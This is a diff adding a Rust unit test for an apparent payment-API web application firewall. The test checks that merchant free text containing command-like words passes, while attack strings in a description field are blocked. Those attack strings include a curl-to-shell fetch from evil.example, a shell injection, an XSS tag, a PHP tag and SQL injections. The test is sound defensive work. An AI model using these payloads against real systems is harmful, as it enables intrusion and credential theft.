@@ -4530,6 +4530,66 @@ mod tests {
         }
     }
 
+    /// Merchants' free text holds English words that are also Unix commands, PowerShell aliases
+    /// and PHP or SQL function names, which level-1 rules matched ("Sed …" at the start, a line
+    /// starting "Find", "real-time", "File (PDF)", "Trim (gold)"), and a browser user agent's
+    /// locale token is one (`; sl;`). The shipped configuration lets those through in the
+    /// free-text fields and the user agent only; the same text in another field, and shell
+    /// syntax, scripts and SQL in the free-text fields, still block.
+    #[test]
+    fn free_text_with_command_and_function_words_passes_and_attacks_do_not() {
+        let w = shared();
+        let enc = |pairs: &[(&str, &str)]| -> Vec<u8> {
+            form_urlencoded::Serializer::new(String::new())
+                .extend_pairs(pairs)
+                .finish()
+                .into_bytes()
+        };
+        let words = [
+            "Sed ut perspiciatis unde omnis iste natus error.",
+            "Delivery notes:\nFind the blue house\nTime: 9am",
+            "Gift wrap\nNice ribbon please",
+            "Schwester kein Wort.\nDir Minuten holen Dorf.",
+            "Enhanced real-time instruction set",
+            "File (PDF) download",
+            "Ticket, system (L)",
+            "Trim (gold) x2",
+            "Weekday (Mon-Fri) delivery",
+        ];
+        for text in words {
+            for field in ["description", "metadata[note]", "shipping[address][line2]"] {
+                let body = enc(&[("amount", "2000"), ("currency", "usd"), (field, text)]);
+                let v = w.inspect(&post("/v1/payment_intents", &body, &[]));
+                assert!(!v.blocked, "{field}={text:?}: {v:?}");
+            }
+            let body = enc(&[("amount", "2000"), ("payment_method", text)]);
+            assert!(
+                w.inspect(&post("/v1/payment_intents", &body, &[])).blocked,
+                "{text:?} passed outside the free-text fields"
+            );
+        }
+        let ua = "Mozilla/5.0 (Windows; U; Windows NT 6.1; sl; rv:1.9.2.3) Gecko/20100401 Firefox/3.6.3";
+        let body = enc(&[
+            ("payment_method", "pm_123"),
+            ("mandate_data[customer_acceptance][type]", "online"),
+            ("mandate_data[customer_acceptance][online][user_agent]", ua),
+        ]);
+        let v = w.inspect(&post("/v1/payment_intents/pi_123/confirm", &body, &[]));
+        assert!(!v.blocked, "user agent: {v:?}");
+        for attack in [
+            "$(curl http://evil.example/x.sh|sh)",
+            "x; /bin/sh -c id",
+            "<script>alert(1)</script>",
+            "<?php echo 1; ?>",
+            "1' UNION SELECT password FROM users--",
+            "1 and sleep(5)",
+        ] {
+            let body = enc(&[("amount", "2000"), ("description", attack)]);
+            let v = w.inspect(&post("/v1/payment_intents", &body, &[]));
+            assert!(v.blocked, "{attack:?} passed in a description: {v:?}");
+        }
+    }
+
     #[test]
     fn exclusions_apply_to_their_route_and_fields_only() {
         let body = b"note=1%27%20OR%201%3D1--";
